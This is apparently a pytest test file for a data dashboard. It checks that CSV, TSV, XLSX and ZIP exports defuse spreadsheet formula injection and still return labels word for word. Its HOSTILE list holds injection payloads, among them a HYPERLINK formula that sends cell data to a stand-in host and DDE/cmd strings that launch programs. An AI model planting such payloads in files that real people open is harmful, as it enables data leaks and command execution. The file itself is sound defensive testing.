"""Words that a spreadsheet would run, through every table that a page hands out: they arrive as text, and come back as they were."""

from __future__ import annotations

import ast
import csv
import io
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest
from streamlit.testing.v1 import AppTest

import core
from core.embedding import Embedding
from core.formats import formats, read_embedding
from dashboard import exports, settings, shelf
from tests.dashboard.conftest import open_page
from tests.dashboard.test_page_recommend import settled

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", '=DDE("cmd";"/C calc";"x")', "'=1+1", "''", "=1+1\n=2+2", "＝1+1",
]  # fmt: skip
WORDS = [*HOSTILE, *(f"word{at}" for at in range(20))]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")
Files = dict[str, Callable[[], bytes]]


@pytest.fixture
def kept(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Embedding:
    """An embedding of such words, with such words as classes, in the library."""
    monkeypatch.setattr(settings, "data_dir", lambda: tmp_path)
    embedding = Embedding(WORDS, np.random.default_rng(0).normal(size=(len(WORDS), 4)), {"=class": WORDS[::-1], "year": list(range(len(WORDS)))})  # fmt: skip
    shelf.save(embedding, '=HYPERLINK("x")', "@origin", {"seed": 7})
    return embedding


def drawn(test: AppTest, files: Files, until: str) -> AppTest:
    patience = time.monotonic() + 90
    while not any(name.startswith(until) for name in files) and time.monotonic() < patience:
        test.run()
    assert not test.exception
    assert any(name.startswith(until) for name in files)
    return test


def cells(name: str, data: bytes) -> Iterator[tuple[str, bool]]:
    """(text of a cell, whether a spreadsheet would run it) as the spreadsheet opens the file."""
    if name.endswith(".xlsx"):
        import openpyxl

        for row in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows():
            yield from ((str(cell.value), cell.data_type == "f") for cell in row)
    elif name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as packed:
            for member in packed.namelist():
                yield from cells(member, packed.read(member))
    elif name.endswith((".csv", ".tsv")):
        separator = "," if name.endswith(".csv") else "\t"
        for line in csv.reader(io.StringIO(data.decode(), newline=""), delimiter=separator):
            yield from ((cell, cell.startswith(RUNS) and not _is_number(cell)) for cell in line)


def _is_number(cell: str) -> bool:
    try:
        return np.isfinite(float(cell))
    except ValueError:
        return False


def harmless(files: Files) -> set[str]:
    """Nothing in any of the files runs; their cells."""
    found: set[str] = set()
    for name, make in files.items():
        for cell, runs in cells(name, make()):
            assert not runs, f"{name}: {cell!r}"
            found.add(cell)
    return found


@pytest.mark.parametrize("name", [facts.name for facts in formats() if facts.keeps_metadata])
def test_a_saved_embedding_leaves_harmless_and_comes_back_word_for_word(
    name: str, kept: Embedding, files: Files
) -> None:
    test = open_page("library")
    files.clear()
    box = next(one for one in test.selectbox if str(one.key).endswith("_format"))
    test = box.set_value(name).run()
    files.pop(next(one for one in files if "workspace" in one))  # which nobody opens but this program
    harmless(files)
    (file,) = [one for one in files if one.startswith("HYPERLINK")]
    again = read_embedding(files[file](), file, format=name)
    assert len(again.metadata["=class"]) == len(again)
    if name == "tensorboard-tsv":  # a line end in a label is a blank there, which makes three of them the same
        assert again.labels == list(
            dict.fromkeys(word.translate(str.maketrans("\t\r\n", "   ")) for word in kept.labels)
        )
    else:
        assert (again.labels, again.metadata["=class"]) == (kept.labels, kept.metadata["=class"])
        assert np.array_equal(again.vectors, kept.vectors)


def test_a_map_and_the_rows_that_were_chosen_leave_harmless(kept: Embedding, files: Files) -> None:
    source = shelf.PREFIX + shelf.library().entries()[0].id
    drawn(open_page("explore", src=source, ex_find="/1/"), files, "coordinates")
    found = harmless(files)
    assert {"rows.csv", "coordinates.csv"} <= set(files)
    assert "'=HYPERLINK" in " ".join(found)
    assert "'=class" in found


def test_rows_whose_neighbours_differ_leave_a_comparison_harmless(kept: Embedding, files: Files) -> None:
    source = shelf.PREFIX + shelf.library().entries()[0].id
    drawn(open_page("explore", src=source, ex_view="compare"), files, "changed")
    assert "'=HYPERLINK" in " ".join(harmless({"changed.csv": files["changed.csv"]}))


def test_a_sentence_of_such_words_leaves_the_positions_page_harmless(kept: Embedding, files: Files) -> None:
    open_page("positions", pos_view="sum", pos_text='=HYPERLINK("x") @SUM(1+1) +1+1 -2+3 =1+1')
    harmless(files)
    assert any(name.endswith(".csv") for name in files)


def test_a_table_of_such_items_leaves_the_recommend_page_harmless(kept: Embedding, files: Files) -> None:
    lines = io.StringIO()
    writer = csv.writer(lines)
    writer.writerow(["name", "tags"])
    writer.writerows([f"{word} {at}", f"@tag{at % 2}|=tag{at % 3}|+tag"] for at, word in enumerate(HOSTILE * 4))
    test = open_page("recommend", rc_data="own")
    files.clear()
    settled(test.file_uploader(key="rc_file").upload("=mine.csv", lines.getvalue().encode()).run())
    assert "'=1+1" in " ".join(harmless(files))
    files.clear()
    drawn(open_page("recommend", rc_view="many"), files, "embedscope-all-lists")
    harmless(files)


def test_a_table_of_such_pairs_leaves_the_mapping_page_harmless(kept: Embedding, files: Files) -> None:
    source = shelf.PREFIX + shelf.library().entries()[0].id
    drawn(open_page("mapping", map_domain="words", src=source), files, "embedscope-map")
    harmless(files)


def test_delimited_text_is_written_in_one_room_only() -> None:
    """What writes CSV elsewhere would have to think of all this again."""
    found = set()
    for root in (Path(core.__file__).parent, Path(exports.__file__).parent):
        for path in root.rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and node.attr in ("write_csv", "writerow", "writerows", "to_csv", "savetxt"):  # fmt: skip
                    found.add(path.relative_to(root.parent).as_posix())
    assert found == {"core/formats/_cells.py", "core/formats/_rows.py", "core/formats/xlsx.py"}
